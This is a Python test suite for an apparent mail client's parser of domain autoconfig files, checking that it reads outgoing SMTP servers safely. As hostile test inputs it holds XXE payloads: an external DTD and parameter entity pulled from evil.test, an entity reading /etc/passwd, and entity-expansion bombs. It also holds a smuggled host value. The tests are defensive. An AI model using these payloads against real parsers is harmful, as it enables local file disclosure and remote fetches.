"""What a domain's file says of its outgoing servers, and that no file, however hostile, does more than say nothing."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postroom.model.account import Encryption, Login
from postroom.policy.autoconfig import MAX_OCTETS, Outgoing, addresses_of, read_outgoing

HEAD = '<?xml version="1.0" encoding="UTF-8"?>'


def server(
    host: str = "smtp.%EMAILDOMAIN%",
    port: str = "465",
    socket: str = "SSL",
    user: str = "%EMAILADDRESS%",
    login: str = "password-cleartext",
    kind: str = "smtp",
) -> str:
    return (
        f'<outgoingServer type="{kind}"><hostname>{host}</hostname><port>{port}</port><socketType>{socket}</socketType>'
        f"<username>{user}</username><authentication>{login}</authentication></outgoingServer>"
    )


def read(*servers: str, head: str = HEAD) -> tuple[Outgoing, ...]:
    body = f"<emailProvider>{''.join(servers)}</emailProvider>"
    text = f"{head}<clientConfig>{body}</clientConfig>"
    return read_outgoing(text.encode(), "ann", "firm.test")


def test_servers_come_in_their_order_with_the_placeholders_filled_in() -> None:
    incoming = '<incomingServer type="imap"><hostname>imap.firm.test</hostname></incomingServer>'
    found = read(
        incoming,
        server(),
        server("mail.firm.test", "587", "STARTTLS", "%EMAILLOCALPART%", "OAuth2"),
        server("relay.firm.test", "25", "plain", "", "client-IP-address"),
    )
    assert found == (
        Outgoing("smtp.firm.test", 465, Encryption.TLS, Login.PASSWORD, "ann@firm.test"),
        Outgoing("mail.firm.test", 587, Encryption.STARTTLS, Login.OAUTH2, "ann"),
        Outgoing("relay.firm.test", 25, Encryption.NONE, Login.NONE, ""),
    )


def test_what_is_odd_in_one_server_leaves_out_that_server_only() -> None:
    odd = [
        server(host="evil host"),
        server(host="127.0.0.1:25@evil.test"),
        server(host="localhost"),
        server(port="0"),
        server(port="65536"),
        server(port="٤٦٥"),
        server(socket="ssl-or-so"),
        server(kind="lmtp"),
        "<outgoingServer type='smtp'/>",
    ]
    assert [one.host for one in read(*odd, server())] == ["smtp.firm.test"]
    assert len(read(*[server(host=f"s{n}.test") for n in range(50)])) == 8
    control = read(server(user="a&#10;b"))
    assert control[0].user == ""


def test_placeholders_are_filled_once_and_never_from_the_address_itself() -> None:
    text = f"<clientConfig><emailProvider>{server(user='%EMAILLOCALPART%')}</emailProvider></clientConfig>"
    found = read_outgoing(text.encode(), "%EMAILDOMAIN%", "firm.test")
    assert found[0].user == "%EMAILDOMAIN%"


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "https://evil.test/x.dtd">',
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.test/p"> %p;]>',
        "<!DOCTYPE html>",
    ],
)
def test_a_document_type_ends_the_reading(head: str) -> None:
    assert read(server()) != ()
    assert read(server(), head=head) == ()


def test_bombs_are_none() -> None:
    assert read_outgoing(b"<a>" * 30_000, "a", "b.test") == ()
    assert read_outgoing(b"<a>" + b"<b/>" * 10_000 + b"</a>", "a", "b.test") == ()
    assert read_outgoing(b" " * (MAX_OCTETS + 1), "a", "b.test") == ()
    assert read("<x>" * 30 + "</x>" * 30, server()) == ()
    for encoding in ("utf-7", "utf-32", "no-such", "hex"):
        assert read(server(), head=f'<?xml version="1.0" encoding="{encoding}"?>') == ()


@given(st.binary(max_size=400))
def test_nothing_raises(octets: bytes) -> None:
    assert read_outgoing(octets, "ann", "firm.test") == ()
    assert isinstance(read_outgoing(f"<c>{server()}".encode() + octets + b"</c>", "ann", "firm.test"), tuple)


def test_the_address_is_not_told_to_the_domain() -> None:
    assert all("@" not in url and "?" not in url and url.startswith("https://") for url in addresses_of("firm.test"))
